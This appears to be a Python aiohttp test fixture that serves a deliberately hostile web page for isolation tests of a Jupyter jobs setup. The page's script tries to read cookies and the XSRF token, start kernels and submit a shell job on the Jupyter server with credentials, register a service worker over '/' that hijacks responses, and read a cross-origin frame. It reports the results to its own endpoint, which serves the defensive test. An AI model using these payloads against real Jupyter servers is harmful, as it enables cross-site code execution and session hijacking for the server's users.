"""A hostile job's web app (aiohttp) for the isolation tests: its page tries, from the user's
browser, what a job must never do to the Jupyter server (read its API, start a kernel, submit a
job, install a service worker over `/`, read Jupyter's cookies), and what it must still do (call
its own app, open its own websocket); it reports what happened to `/report`. Every request
header it receives is kept (`/seen`), and it counts its open websockets (`/wscount`).
Listens on $PORT_WEB."""

import json
import os

from aiohttp import WSMsgType, web

PAGE = """<!doctype html><title>hostile</title><body><script>
const results = {};
const J = new URLSearchParams(location.search).get('jupyter') || '';  // Jupyter's origin, if not this one
async function attempt(name, fn) {
  try { results[name] = await fn(); } catch (e) { results[name] = 'error: ' + e.name; }
}
function xsrf() { try { return (document.cookie.match(/_xsrf=([^;]*)/) || [])[1] || ''; } catch (e) { return ''; } }
function post(url, body) {
  return fetch(url, {method: 'POST', credentials: 'include', headers: {'Content-Type': 'application/json',
    'X-XSRFToken': xsrf()}, body: JSON.stringify(body)}).then(r => r.status);
}
(async () => {
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => { localStorage.setItem('x', '1'); return 'ok'; });
  await attempt('contents', () => fetch(J + '/api/contents', {credentials: 'include'}).then(r => r.status));
  await attempt('kernel', () => post(J + '/api/kernels', {}));
  await attempt('kernel_no_cors', () => fetch(J + '/api/kernels', {method: 'POST', mode: 'no-cors',
    credentials: 'include', body: '{}'}).then(r => r.type));
  await attempt('job', () => post(J + '/jupyter-jobs/jobs', {command: 'touch hostile-was-here', workspace: 'w'}));
  await attempt('sw_root', () => navigator.serviceWorker.register('sw.js', {scope: '/'}).then(() => 'registered'));
  await attempt('sw_own', () => navigator.serviceWorker.register('sw.js').then(() => 'registered'));
  await attempt('frame', () => new Promise(resolve => {
    const frame = document.createElement('iframe');
    frame.src = J + '/api/status';
    frame.onload = () => { try { resolve('read: ' + frame.contentDocument.body.innerText); }
                           catch (e) { resolve('error: ' + e.name); } };
    document.body.appendChild(frame);
  }));
  await attempt('own_call', () => fetch('echo', {method: 'POST', headers: {'Content-Type': 'application/json'},
    body: '{"n": 41}'}).then(r => r.json()).then(j => j.n + 1));
  await attempt('own_ws', () => new Promise((resolve, reject) => {
    const url = new URL('ws', location.href);
    url.protocol = url.protocol.replace('http', 'ws');
    const ws = new WebSocket(url.href);
    ws.onopen = () => ws.send('ping');
    ws.onmessage = e => { resolve(e.data); ws.close(); };
    ws.onerror = () => reject(new Error('websocket'));
  }));
  await fetch('report', {method: 'POST', body: JSON.stringify(results)});
  document.title = 'reported';
})();
</script></body>"""

SW = "self.addEventListener('fetch', e => e.respondWith(new Response('hijacked by the job')));"

seen: list[dict] = []
reports: list[dict] = []
sockets: set = set()


@web.middleware
async def keep(request: web.Request, handler):
    seen.append({"path": request.path_qs, "headers": list(request.headers.items())})
    return await handler(request)


async def page(request: web.Request) -> web.Response:
    resp = web.Response(text=PAGE, content_type="text/html")
    resp.headers["Service-Worker-Allowed"] = "/"
    resp.headers["Clear-Site-Data"] = '"cookies", "storage"'
    resp.headers["Access-Control-Allow-Origin"] = "http://evil.example"
    resp.headers["Access-Control-Allow-Credentials"] = "true"
    resp.headers.add("Set-Cookie", 'aaa="x; Path=/')
    resp.headers.add("Set-Cookie", 'zzz=y"; Path=/; Domain=127.0.0.1')
    return resp


async def sw(request: web.Request) -> web.Response:
    return web.Response(text=SW, content_type="text/javascript", headers={"Service-Worker-Allowed": "/"})


async def echo_json(request: web.Request) -> web.Response:
    return web.json_response(await request.json())


async def ws(request: web.Request) -> web.WebSocketResponse:
    socket = web.WebSocketResponse()
    await socket.prepare(request)
    sockets.add(socket)
    try:
        async for msg in socket:
            if msg.type == WSMsgType.TEXT:
                await socket.send_str(msg.data)
    finally:
        sockets.discard(socket)
    return socket


async def report(request: web.Request) -> web.Response:
    if request.method == "POST":
        reports.append(json.loads(await request.read()))
        return web.Response(text="thanks")
    return web.json_response(reports)


async def listing(request: web.Request) -> web.Response:
    return web.json_response({"seen": seen, "wscount": len(sockets)})


async def other(request: web.Request) -> web.Response:
    return web.Response(text=f"{request.method} {request.path}")


app = web.Application(middlewares=[keep])
app.router.add_get("/page", page)
app.router.add_get("/sw.js", sw)
app.router.add_post("/echo", echo_json)
app.router.add_get("/ws", ws)
app.router.add_route("*", "/report", report)
app.router.add_get("/seen", listing)
app.router.add_route("*", "/{tail:.*}", other)

if __name__ == "__main__":
    web.run_app(app, host="127.0.0.1", port=int(os.environ["PORT_WEB"]), access_log=None, print=None)
